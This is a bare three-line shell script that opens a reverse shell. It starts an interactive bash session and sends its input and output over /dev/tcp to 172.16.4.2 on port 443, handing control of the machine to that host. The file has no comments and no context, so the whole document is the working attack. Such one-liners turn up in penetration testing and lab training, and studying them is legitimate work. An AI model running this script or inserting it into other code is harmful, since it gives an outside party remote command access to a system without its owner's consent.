#!/bin/sh
X=/dev/tcp/172.16.4.2/443
bash -i >& $X 0>&1
